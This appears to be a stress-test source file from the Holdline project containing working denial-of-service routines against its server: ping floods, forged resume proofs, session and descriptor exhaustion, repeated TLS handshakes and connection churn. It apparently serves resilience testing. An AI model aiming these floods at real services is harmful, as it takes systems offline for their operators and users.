// SPDX-FileCopyrightText: The Holdline authors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "protocol/control.h"
#include "protocol/limits.h"
#include "protocol/proof.h"
#include "tools/attack/attackers.h"
#include "tools/attack/attacks.h"

#include <QtEndian>

using namespace std::chrono_literals;
using namespace Qt::StringLiterals;

namespace holdline::attack {

namespace {

/// `content` after its length in `lengthBytes` bytes (RFC 8446, 3.4).
QByteArray vector(int lengthBytes, const QByteArray &content)
{
    QByteArray length(4, '\0');
    qToBigEndian(static_cast<quint32>(content.size()), length.data());
    return length.last(lengthBytes) + content;
}

/// A ClientHello of TLS 1.3 (RFC 8446, 4.1.2) that makes the server sign its answer.
QByteArray clientHello()
{
    const auto hex = [](const char *digits) { return QByteArray::fromHex(digits); };
    const QByteArray share = hex("001d") + vector(2, protocol::randomBytes(32)); // x25519
    const QByteArray extensions = hex("002b") + vector(2, vector(1, hex("0304"))) // TLS 1.3
        + hex("000a") + vector(2, vector(2, hex("001d"))) // its groups
        + hex("000d") + vector(2, vector(2, hex("080408050403050308060401"))) // its signatures
        + hex("0033") + vector(2, vector(2, share));
    const QByteArray hello = hex("0303") + protocol::randomBytes(32) + vector(1, {}) // no session
        + vector(2, hex("130113021303")) // its ciphers
        + vector(1, hex("00")) // no compression
        + vector(2, extensions);
    return hex("160301") + vector(2, hex("01") + vector(3, hello));
}

/// Keeps as many connections of `make` as it can get, and replaces those that have ended.
template <typename Make>
void hold(int count, Make make, const AtWork &atWork)
{
    std::vector<std::unique_ptr<RawClient>> crowd(static_cast<std::size_t>(count));
    for (;;) {
        for (auto &client : crowd) {
            if (client)
                client->listen(0ms);
            if (!client || !client->isOpen())
                client = make();
        }
        atWork();
        pause(100ms);
    }
}

} // namespace

/// Pings without reading the answers, before a token was shown.
void strangersPings(const Target &target, const AtWork &atWork)
{
    const QByteArray many = frame(Opcode::Ping, QByteArray(125, 'x')).repeated(500);
    forEver(2, [&] {
        RawClient client(target.port);
        if (!client.upgrade(target, false, "/logs"))
            pause(100ms);
        while (client.say(many))
            atWork();
    });
}

/// Forty connections at a time ask for one session with made-up proofs.
void wrongProofs(const Target &target, const AtWork &atWork)
{
    constexpr int kAtOnce = 40;
    const auto id = SessionId::parse(QString::fromLatin1(target.session));
    if (!id)
        return;
    forEver(1, [&] {
        std::vector<RawClient> crowd;
        for (int i = 0; i < kAtOnce; ++i) {
            const protocol::Resume request{.instance = u"forger"_s,
                                           .audio = {{16000}, {48000}, {u"pcm"_s}},
                                           .window = protocol::kWindow,
                                           .id = *id,
                                           .proof = protocol::randomBytes(protocol::kProofBytes),
                                           .point = std::nullopt};
            RawClient &forger = crowd.emplace_back(target.port);
            if (forger.upgrade(target))
                forger.say(frame(Opcode::Text, encode(protocol::ControlMessage(request))));
        }
        atWork();
        for (RawClient &forger : crowd)
            forger.hears("hl_reset", 3s);
    });
}

/// Opens more sessions than a user needs, and leaves every other one at once.
void manySessions(const Target &target, const AtWork &atWork)
{
    constexpr int kTries = 600;
    std::vector<RawClient> crowd;
    for (int i = 0; i < kTries; ++i) {
        RawClient client(target.port);
        if (client.openSession(target) && i % 2 == 0)
            crowd.push_back(std::move(client));
    }
    atWork();
    forEver(1, [&] {
        RawClient(target.port).openSession(target);
        pause(5ms);
    });
}

/// Makes the server do its part of TLS handshakes, which is the expensive part.
void tlsHandshakes(const Target &target, const AtWork &atWork)
{
    const QByteArray hello = clientHello();
    forEver(4, [&] {
        RawClient client(target.port);
        if (client.say(hello) && client.hears("\x16\x03\x03", 4s)) // its ServerHello
            atWork();
        client.cut();
    });
}

/// Connects and disconnects 2 000 times a second, which is more than the server accepts.
void connections(const Target &target, const AtWork &atWork)
{
    constexpr int kAtOnce = 20;
    forEver(1, [&] {
        for (int i = 0; i < kAtOnce; ++i) {
            RawClient client(target.port);
            client.say("GET /ws HTTP/1.1\r\n");
            client.cut();
        }
        atWork();
        pause(10ms);
    });
}

/// Opens more connections than a server with few descriptors can accept.
void silentConnections(const Target &target, const AtWork &atWork)
{
    hold(
        1'000, [&] { return std::make_unique<RawClient>(target.port); }, atWork);
}

} // namespace holdline::attack
